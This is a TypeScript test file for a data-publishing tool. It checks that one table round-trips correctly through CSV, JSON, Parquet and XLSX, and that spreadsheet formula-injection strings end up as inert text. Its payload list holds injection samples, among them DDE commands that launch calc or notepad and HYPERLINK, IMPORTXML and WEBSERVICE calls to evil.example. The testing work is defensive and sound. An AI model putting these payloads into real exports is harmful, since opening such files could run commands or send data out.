/** The four formats of one table, each read back by a library that did not write it, give the same rows with the same types; no text in them can run as a formula. */
import { parquetMetadata, parquetReadObjects } from 'hyparquet';
import { unzipSync } from 'fflate';
import Papa from 'papaparse';
import { readSheet } from 'read-excel-file/node';
import { expect, test } from 'vitest';
import { portalOf } from '#src/datasets/portal.ts';
import type { Portal } from '#src/datasets/portal.ts';
import { parsePublishedCsv } from '#src/tabular/published-csv.ts';
import type { DataPackage, Field, FieldType } from '#src/tabular/data-package.ts';
import { publishedDataPackage } from '#src/publishing/datapackage.ts';
import { tableCsv } from '#src/publishing/table-csv.ts';
import { tableJson } from '#src/publishing/table-json.ts';
import { tableParquet } from '#src/publishing/table-parquet.ts';
import { tableWorkbooks } from '#src/publishing/table-xlsx.ts';
import type { Workbook } from '#src/publishing/table-xlsx.ts';
import { fakePortal } from './support/fake-portal.ts';
import { emptyLog } from '#src/releases/release-log.ts';

const codes = { NC: 'not_collected', NP: 'not_published', SUP: 'suppressed', NA: 'not_applicable' } as const;

/** What a spreadsheet could run, fetch or misread, as it is known from attacks on exported files. */
const payloads = [
  '=1+1', '=SUM(A1:A9)', '=cmd|\' /C calc\'!A0', '=HYPERLINK("https://evil.example","click")', '=IMPORTXML("https://evil.example","//a")', '=WEBSERVICE("https://evil.example")',
  '=DDE("cmd";"/C calc";"x")', '="text"', '=-1', '+1+1', '+cmd|\'/C notepad\'!A1', '+86 871 6312 0000', '-1+1', '-2+3+cmd|\'/C calc\'!A0', '--5', '-A1', '@SUM(1+1)', '@A1', '\t=1+1', '\r=1+1',
  '\n=1+1', "'=1+1", "''=1+1", '＝1+1', '＋1', '－A1', '＠SUM(1)',
];

const fields: readonly Field[] = (
  [
    ['id', 'integer'], ['text', 'string'], ['count', 'integer'], ['amount', 'number'], ['day', 'date'], ['month', 'yearmonth'], ['year', 'year'], ['clock', 'time'], ['instant', 'datetime'], ['services', 'list'],
  ] satisfies [string, FieldType][]
).map(([name, type]) => ({ name, type, title: `列${name}`, 'title@en': `Column ${name}`, description: '说明', 'description@en': 'Description', ...(type === 'list' ? { delimiter: ';' } : {}) }));

const rows: readonly (readonly string[])[] = [
  ['1', '血库 "A", 二', '12', '-3.5', '2026-11-21', '2026-11', '2026', '09:30', '2026-11-21T09:30:00+08:00', 'whole_blood;apheresis_platelets'],
  ['2', '', '', '', '', '', '', '', '', ''],
  ['3', 'NA', 'NP', 'SUP', 'NC', 'NA', 'NC', 'NP', 'NA', 'NC'],
  ['4', '-5', '-5', '0', '1899-12-31', '1999-01', '1900', '00:00', '2024-02-29T23:59:59+08:00', 'whole_blood'],
  ['5', 'a $& b <c> & 𠮷 \u00a0', '0', '1234567.89', '1900-03-01', '2024-02', '2024', '23:59', '2024-02-29T00:00:00+00:00', 'whole_blood'],
  ...payloads.map((text, index) => [String(index + 6), text, '-1', '-0.01', '2024-02-29', '2024-02', '2024', '12:00', '2024-02-29T12:00:00+08:00', 'x']),
];

function portalWith(tables: ReadonlyMap<string, readonly (readonly string[])[]>, demonstration = false): Portal {
  const missingValues = [{ value: '', label: 'not_reported', title: '未填报', 'title@en': 'not reported' }, ...Object.entries(codes).map(([value, label]) => ({ value, label, title: label, 'title@en': label }))];
  const dataPackage: DataPackage = {
    $schema: 'https://datapackage.org/profiles/2.0/datapackage.json', name: 'test', title: '测试', 'title@en': 'Test', languages: ['zh', 'en'],
    resources: [{ name: 'things', title: '东西', 'title@en': 'Things', description: '说明', 'description@en': 'Description', path: 'things.csv', schema: { fields, primaryKey: ['id'], missingValues } }],
  };
  const settings = fakePortal({ settings: demonstration ? { demonstration: { clock: '2026-11-21T21:00:00+08:00' } } : {} }).settings;
  return portalOf(settings, '2026-11-21T21:00:00+08:00', dataPackage, tables);
}
const portal = portalWith(new Map([['things', rows]]));

interface Read {
  readonly values: Readonly<Record<string, unknown>>;
  readonly missing: Readonly<Record<string, string>>;
}

/** The rows as values of their types, by plain rules: what every format has to give. Dates and instants as UTC text. */
const wanted: readonly Read[] = rows.map((cells) => {
  const values: Record<string, unknown> = {};
  const missing: Record<string, string> = {};
  for (const [index, { name, type }] of fields.entries()) {
    const cell = cells[index]!;
    if (cell in codes) missing[name] = codes[cell as keyof typeof codes];
    if (cell === '' || cell in codes) values[name] = null;
    else if (type === 'integer' || type === 'number' || type === 'year') values[name] = Number(cell);
    else if (type === 'list') values[name] = cell.split(';');
    else if (type === 'datetime') values[name] = new Date(cell).toISOString();
    else values[name] = cell;
  }
  return { values, missing };
});

/** Reads cells of text by the published description alone. */
function typed(read: readonly (readonly string[])[], published: readonly Field[]): readonly Read[] {
  return read.map((cells) => {
    const values: Record<string, unknown> = {};
    const missing: Record<string, string> = {};
    for (const [index, { name, type }] of published.entries()) {
      const cell = cells[index]!;
      if (Object.hasOwn(codes, cell)) missing[name] = codes[cell as keyof typeof codes];
      if (cell === '' || Object.hasOwn(codes, cell)) values[name] = null;
      else if (['integer', 'number', 'year'].includes(type)) values[name] = Number(cell);
      else values[name] = type === 'list' ? cell.split(';') : type === 'datetime' ? new Date(cell).toISOString() : cell;
    }
    return { values, missing };
  });
}

test('the CSV, read plainly, has the rows and types once the documented rule is taken back', () => {
  const plain = Papa.parse<string[]>(tableCsv(portal, 'things').slice(1), { delimiter: ',', newline: '\r\n', skipEmptyLines: true }).data;
  expect(plain[0]).toEqual(fields.map(({ name }) => name));
  const { neutral_text: rule } = publishedDataPackage(portal, emptyLog, (path) => path) as { neutral_text: { pattern: string } };
  const neutral = new RegExp(rule.pattern, 'u');
  const back = plain.slice(1).map((cells) => cells.map((cell) => (neutral.test(cell) ? cell.slice(1) : cell)));
  expect(typed(back, fields)).toEqual(wanted);
  expect(parsePublishedCsv(tableCsv(portal, 'things')).rows).toEqual(rows);
});

test('the JSON has the rows and types', () => {
  const { rows: read } = JSON.parse(Buffer.from(tableJson(portal, 'things')[0]!.bytes).toString('utf8')) as { rows: Record<string, unknown>[] };
  expect(read.map(({ _missing, ...values }) => ({ values: { ...values, instant: values['instant'] === null ? null : new Date(String(values['instant'])).toISOString() }, missing: _missing ?? {} }))).toEqual(wanted);
});

test('the Parquet has the rows and types', async () => {
  const file = tableParquet(portal, 'things').buffer;
  const read = await parquetReadObjects({ file });
  const iso = (value: unknown): unknown => (value instanceof Date ? value.toISOString() : value);
  expect(
    read.map(({ _missing, ...values }) => ({
      values: {
        ...Object.fromEntries(Object.entries(values).map(([name, value]) => [name, typeof value === 'bigint' ? Number(value) : iso(value) ?? null])),
        day: values['day'] instanceof Date ? values['day'].toISOString().slice(0, 10) : null,
      },
      missing: _missing ?? {},
    })),
  ).toEqual(wanted);
  const columns = parquetMetadata(file).schema.slice(1).filter(({ name }) => fields.some((field) => field.name === name));
  expect(columns.map(({ name, type, converted_type: converted }) => `${name} ${type ?? ''} ${converted ?? ''}`.trim())).toEqual([
    'id INT64', 'text BYTE_ARRAY UTF8', 'count INT64', 'amount DOUBLE', 'day INT32 DATE', 'month BYTE_ARRAY UTF8', 'year INT32', 'clock BYTE_ARRAY UTF8', 'instant INT64 TIMESTAMP_MILLIS', 'services  LIST',
  ]);
});

test('the workbook has the rows and types, and three sheets', async () => {
  const [{ name, bytes }] = [...(await tableWorkbooks(portal, 'things'))] as [Workbook];
  expect(name).toBe('things.xlsx');
  const [header, ...read] = await readSheet(Buffer.from(bytes), 'data', { trim: false } as never);
  expect(header).toEqual(fields.map((field) => field.name));
  const asText = read.map((cells) => cells.map((cell) => (cell === null ? '' : cell instanceof Date ? cell.toISOString().slice(0, 10) : cell)));
  for (const [index, cells] of asText.entries()) {
    for (const [column, field] of fields.entries()) {
      const source = rows[index]![column]!;
      const isNumber = ['integer', 'number', 'year'].includes(field.type) && source !== '' && !(source in codes);
      expect(cells[column], `row ${index + 2}, ${field.name}`).toBe(isNumber ? Number(source) : source);
      if (field.type === 'date' && /^(19\d\d-0[3-9]|20)/.test(source)) expect(read[index]![column]).toBeInstanceOf(Date);
    }
  }
  const dictionary = await readSheet(Buffer.from(bytes), 'dictionary');
  expect(dictionary.slice(1, fields.length + 1).map(([column, zh, en]) => [column, zh, en])).toEqual(fields.map((field) => [field.name, field.title, field['title@en']]));
  expect(dictionary.flat()).toContain('not_published');
  expect((await readSheet(Buffer.from(bytes), 'source')).flat()).toContain('2026-11-21T21:00:00+08:00');
});

test('25 and more formula payloads are neutral in CSV and XLSX; negative numbers are left as they are', async () => {
  expect(payloads.length).toBeGreaterThanOrEqual(25);
  const plain = Papa.parse<string[]>(tableCsv(portal, 'things').slice(1), { delimiter: ',', newline: '\r\n', skipEmptyLines: true }).data;
  for (const cells of plain.slice(6)) {
    expect(cells[1]).toMatch(/^'/);
    expect([cells[2], cells[3]]).toEqual(['-1', '-0.01']);
  }
  expect(plain[4]!.slice(1, 3)).toEqual(['-5', '-5']);
  const [{ bytes }] = [...(await tableWorkbooks(portal, 'things'))] as [Workbook];
  const sheets = Object.entries(unzipSync(bytes)).filter(([path]) => path.startsWith('xl/worksheets/')).map(([, content]) => Buffer.from(content).toString('utf8'));
  expect(sheets.length).toBeGreaterThanOrEqual(3);
  for (const sheet of sheets) expect(sheet).not.toMatch(/<f[ >]/);
  // Each payload is a text in the format "text", so that it stays one when somebody edits the cell.
  for (let row = 7; row < payloads.length + 7; row += 1) expect(sheets[0]).toMatch(new RegExp(`<c r="B${row}" s="\\d+" t="s">`));
});

test('a workbook or Parquet made again is the same bytes, also in another time zone', async () => {
  const before = process.env['TZ'];
  const first = [(await tableWorkbooks(portal, 'things'))[0]!.bytes, tableParquet(portal, 'things')];
  process.env['TZ'] = 'America/New_York';
  const again = portalWith(new Map([['things', rows]]));
  const second = [(await tableWorkbooks(again, 'things'))[0]!.bytes, tableParquet(again, 'things')];
  if (before === undefined) delete process.env['TZ'];
  else process.env['TZ'] = before;
  for (const [index, bytes] of first.entries()) expect(Buffer.from(bytes).equals(second[index]!)).toBe(true);
});

test('beyond the limit there is a workbook a year, and one that names them', async () => {
  const books = await tableWorkbooks(portal, 'things', 10);
  expect(books.map(({ name }) => name)).toEqual(['things.xlsx', 'things-2026.xlsx', 'things-.xlsx', 'things-NC.xlsx', 'things-1899.xlsx', 'things-1900.xlsx', 'things-2024.xlsx']);
  expect(await readSheet(Buffer.from(books[0]!.bytes), 'data')).toEqual([['part'], ...books.slice(1).map(({ name }) => [name])]);
  const counts = await Promise.all(books.slice(1).map(async ({ bytes }) => (await readSheet(Buffer.from(bytes), 'data')).length - 1));
  expect(counts.reduce((sum, count) => sum + count, 0)).toBe(rows.length);
});

test('every row and file of a demonstration says so', async () => {
  const demonstration = portalWith(new Map([['things', rows]]), true);
  const [{ bytes }] = [...(await tableWorkbooks(demonstration, 'things'))] as [Workbook];
  const read = await readSheet(Buffer.from(bytes), 'data');
  expect(new Set(read.slice(1).map((cells) => cells.at(-1)))).toEqual(new Set(['示例 demonstration']));
  expect((await readSheet(Buffer.from(bytes), 'source'))[0]![0]).toBe('示例 demonstration');
  const file = tableParquet(demonstration, 'things').buffer;
  expect((await parquetReadObjects({ file })).every((row) => row['demonstration'] === '示例 demonstration')).toBe(true);
  expect(parquetMetadata(file).key_value_metadata).toContainEqual({ key: 'demonstration', value: 'true' });
});
